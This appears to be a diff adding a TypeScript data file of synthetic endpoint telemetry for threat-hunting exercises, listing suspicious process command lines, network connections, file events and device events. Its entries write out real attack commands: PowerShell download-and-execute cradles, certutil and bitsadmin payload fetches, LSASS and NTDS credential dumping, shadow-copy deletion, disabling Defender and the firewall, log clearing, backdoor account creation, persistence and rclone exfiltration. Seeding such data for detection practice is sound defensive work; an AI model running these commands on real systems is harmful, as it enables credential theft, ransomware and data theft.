@@ -1,0 +1,176 @@
+/**
+ * What public hunts look for on endpoints, as (parent, command line) pairs: encoded PowerShell,
+ * LOLBins, credential dumping, ransomware precursors, discovery, persistence, lateral movement and
+ * defence evasion. Seeded as a thin layer of process rows on the world's machines, beside the
+ * incidents' stories, so a hunt over a month of data finds the technique it hunts.
+ */
+export const SUSPICIOUS_PROCESSES: readonly (readonly [parent: string, commandLine: string])[] = [
+  [
+    'winword.exe',
+    'powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
+  ],
+  [
+    'cmd.exe',
+    'powershell.exe -nop -exec bypass -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.23/a.ps1\')"',
+  ],
+  ['explorer.exe', 'powershell.exe -ExecutionPolicy Bypass -enc JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAA='],
+  ['cmd.exe', 'certutil.exe -urlcache -split -f http://198.51.100.23/payload.exe C:\\Users\\Public\\p.exe'],
+  ['cmd.exe', 'certutil.exe -decode C:\\Users\\Public\\enc.txt C:\\Users\\Public\\p.dll'],
+  [
+    'cmd.exe',
+    'bitsadmin.exe /transfer job /download /priority high http://198.51.100.23/b.exe C:\\Temp\\b.exe',
+  ],
+  ['winword.exe', 'mshta.exe http://198.51.100.23/run.hta'],
+  ['excel.exe', 'regsvr32.exe /s /n /u /i:http://198.51.100.23/file.sct scrobj.dll'],
+  ['explorer.exe', 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write()'],
+  [
+    'powershell.exe',
+    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full',
+  ],
+  ['cmd.exe', 'procdump.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp'],
+  ['cmd.exe', 'reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save'],
+  ['cmd.exe', 'reg.exe save HKLM\\SYSTEM C:\\Windows\\Temp\\system.save'],
+  ['cmd.exe', 'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Temp\\ntds" q q'],
+  ['powershell.exe', 'powershell.exe -c "Invoke-Mimikatz -DumpCreds"'],
+  ['cmd.exe', 'vssadmin.exe delete shadows /all /quiet'],
+  ['cmd.exe', 'wmic.exe shadowcopy delete'],
+  ['cmd.exe', 'wbadmin.exe delete catalog -quiet'],
+  ['cmd.exe', 'bcdedit.exe /set {default} recoveryenabled No'],
+  ['cmd.exe', 'bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures'],
+  ['cmd.exe', 'net.exe stop "Veeam Backup Service" /y'],
+  ['cmd.exe', 'sc.exe config WinDefend start= disabled'],
+  ['cmd.exe', 'taskkill.exe /F /IM sqlservr.exe'],
+  ['cmd.exe', 'cipher.exe /w:C:\\'],
+  ['cmd.exe', 'fsutil.exe usn deletejournal /D C:'],
+  ['cmd.exe', 'wevtutil.exe cl Security'],
+  ['powershell.exe', 'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true'],
+  ['powershell.exe', 'powershell.exe Add-MpPreference -ExclusionPath C:\\Users\\Public'],
+  ['cmd.exe', 'netsh.exe advfirewall set allprofiles state off'],
+  ['cmd.exe', 'whoami.exe /all'],
+  ['cmd.exe', 'net.exe group "Domain Admins" /domain'],
+  ['cmd.exe', 'net.exe user /domain'],
+  ['cmd.exe', 'net.exe localgroup administrators'],
+  ['cmd.exe', 'nltest.exe /domain_trusts /all_trusts'],
+  ['cmd.exe', 'nltest.exe /dclist:contoso.local'],
+  ['cmd.exe', 'AdFind.exe -f "(objectcategory=computer)" -csv name operatingSystem'],
+  ['cmd.exe', 'ipconfig.exe /all'],
+  ['cmd.exe', 'systeminfo.exe'],
+  ['cmd.exe', 'quser.exe'],
+  ['cmd.exe', 'arp.exe -a'],
+  ['cmd.exe', 'net.exe user svc_backup P@ssw0rd! /add'],
+  ['cmd.exe', 'net.exe localgroup administrators svc_backup /add'],
+  [
+    'cmd.exe',
+    'schtasks.exe /create /sc minute /mo 30 /tn "OneDrive Update" /tr "C:\\Users\\Public\\update.exe" /f',
+  ],
+  [
+    'cmd.exe',
+    'reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d C:\\Users\\Public\\update.exe /f',
+  ],
+  ['cmd.exe', 'sc.exe create UpdaterSvc binPath= "C:\\Users\\Public\\svc.exe" start= auto'],
+  ['wmiprvse.exe', 'cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.1 2>&1'],
+  ['services.exe', 'PSEXESVC.exe'],
+  ['wsmprovhost.exe', 'powershell.exe -c Get-Process'],
+  ['cmd.exe', 'wmic.exe /node:10.0.0.12 process call create "cmd.exe /c whoami"'],
+  ['cmd.exe', 'mstsc.exe /v:10.0.0.12'],
+  [
+    'explorer.exe',
+    'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\Users\\Public\\build.xml',
+  ],
+  ['explorer.exe', 'InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\a.dll'],
+  ['cmd.exe', 'cmstp.exe /ni /s C:\\Users\\Public\\a.inf'],
+  ['cmd.exe', 'forfiles.exe /p c:\\windows\\system32 /m notepad.exe /c calc.exe'],
+  ['cmd.exe', 'esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\Temp\\ntds.dit'],
+  ['cmd.exe', 'rclone.exe copy C:\\Shares\\Finance remote:exfil --transfers 8'],
+  ['cmd.exe', '7z.exe a -pinfected C:\\Temp\\data.7z C:\\Shares\\Finance'],
+  ['powershell.exe', 'curl.exe -o C:\\Users\\Public\\a.exe http://198.51.100.23/a.exe'],
+  ['cmd.exe', 'nslookup.exe -type=TXT c2.malicious-updates.com'],
+  ['outlook.exe', 'cmd.exe /c start C:\\Users\\Public\\invoice.iso'],
+  ['winword.exe', 'cmd.exe /c ping -n 1 198.51.100.23'],
+  ['explorer.exe', 'wscript.exe C:\\Users\\Public\\Downloads\\invoice.js'],
+  ['explorer.exe', 'cscript.exe //E:jscript C:\\Users\\Public\\update.txt'],
+  ['cmd.exe', 'attrib.exe +h +s C:\\Users\\Public\\update.exe'],
+  ['cmd.exe', 'icacls.exe C:\\Shares /grant Everyone:F /T /C /Q'],
+  ['cmd.exe', 'net.exe share Finance=C:\\Shares\\Finance /grant:everyone,full'],
+  ['cmd.exe', 'net.exe use \\\\10.0.0.12\\C$ /user:contoso\\admin'],
+  ['cmd.exe', 'at.exe 23:00 /every:M C:\\Users\\Public\\run.bat'],
+];
+
+/** Network activity hunts look for: C2 beacons and rare domains, remote admin ports, Tor. */
+export const SUSPICIOUS_CONNECTIONS: readonly (readonly [
+  process: string,
+  ip: string,
+  port: number,
+  url: string,
+])[] = [
+  ['rundll32.exe', '198.51.100.23', 443, 'malicious-updates.com'],
+  ['powershell.exe', '198.51.100.23', 80, 'http://198.51.100.23/a.ps1'],
+  ['powershell.exe', '203.0.113.66', 4444, ''],
+  ['regsvr32.exe', '203.0.113.66', 8080, 'cdn-telemetry-sync.xyz'],
+  ['mshta.exe', '198.51.100.23', 443, 'login-microsoftonline.support'],
+  ['svchost.exe', '185.220.101.4', 9001, ''],
+  ['certutil.exe', '198.51.100.23', 80, 'http://198.51.100.23/payload.exe'],
+  ['powershell.exe', '10.0.0.12', 5985, ''],
+  ['mstsc.exe', '10.0.0.12', 3389, ''],
+  ['cmd.exe', '10.0.0.12', 445, ''],
+  ['rclone.exe', '104.16.0.1', 443, 'mega.nz'],
+  ['AnyDesk.exe', '195.181.170.1', 443, 'relay-1.net.anydesk.com'],
+];
+
+/** File activity hunts look for: startup persistence, container downloads, USB copies, ransom notes. */
+export const SUSPICIOUS_FILES: readonly (readonly [
+  action: string,
+  folder: string,
+  file: string,
+  process: string,
+  origin: string,
+])[] = [
+  [
+    'FileCreated',
+    'C:\\Users\\Public\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup',
+    'update.lnk',
+    'powershell.exe',
+    '',
+  ],
+  [
+    'FileCreated',
+    'C:\\Users\\Public\\Downloads',
+    'invoice.iso',
+    'msedge.exe',
+    'http://198.51.100.23/invoice.iso',
+  ],
+  ['FileCreated', 'C:\\Users\\Public\\Downloads', 'invoice.js', 'outlook.exe', ''],
+  ['FileCreated', 'E:\\Backup', 'Finance-2026.xlsx', 'explorer.exe', ''],
+  ['FileCreated', 'C:\\Temp', 'ntds.dit', 'esentutl.exe', ''],
+  ['FileCreated', 'C:\\Windows\\Temp', 'lsass.dmp', 'rundll32.exe', ''],
+  ['FileCreated', 'C:\\Shares\\Finance', 'README-DECRYPT.txt', 'svchost.exe', ''],
+  ['FileRenamed', 'C:\\Shares\\Finance', 'Budget.xlsx.locked', 'svchost.exe', ''],
+  ['FileCreated', 'C:\\Users\\Public', 'p.exe', 'certutil.exe', 'http://198.51.100.23/payload.exe'],
+  ['FileCreated', 'C:\\Windows\\System32\\Tasks', 'OneDrive Update', 'schtasks.exe', ''],
+];
+
+/** DeviceEvents hunts look for. */
+export const SUSPICIOUS_DEVICE_EVENTS: readonly (readonly [
+  action: string,
+  fields: Record<string, unknown>,
+])[] = [
+  ['PowerShellCommand', { Command: 'Invoke-Mimikatz' }],
+  ['PowerShellCommand', { Command: 'Invoke-WebRequest' }],
+  [
+    'UsbDriveMounted',
+    { DriveLetter: 'E:', ProductName: 'Cruzer Blade', Manufacturer: 'SanDisk', SerialNumber: '4C530001' },
+  ],
+  ['AntivirusDetection', { ThreatName: 'HackTool:Win32/Mimikatz.D', WasRemediated: true }],
+  ['ScheduledTaskCreated', { TaskName: '\\OneDrive Update', TaskContent: 'C:\\Users\\Public\\update.exe' }],
+  ['ServiceInstalled', { ServiceName: 'UpdaterSvc', ServiceStartType: 2, ServiceAccount: 'LocalSystem' }],
+  ['AsrOfficeChildProcessBlocked', { IsAudit: false }],
+  [
+    'LdapSearch',
+    { AttributeList: '["samaccountname"]', SearchFilter: '(&(objectCategory=person)(objectClass=user))' },
+  ],
+  ['NamedPipeEvent', { PipeName: '\\Device\\NamedPipe\\msagent_12', FileOperation: 'File created' }],
+  [
+    'DnsQueryResponse',
+    { DnsQueryString: 'malicious-updates.com', DnsQueryResult: '[{"Address":"198.51.100.23"}]' },
+  ],
+];
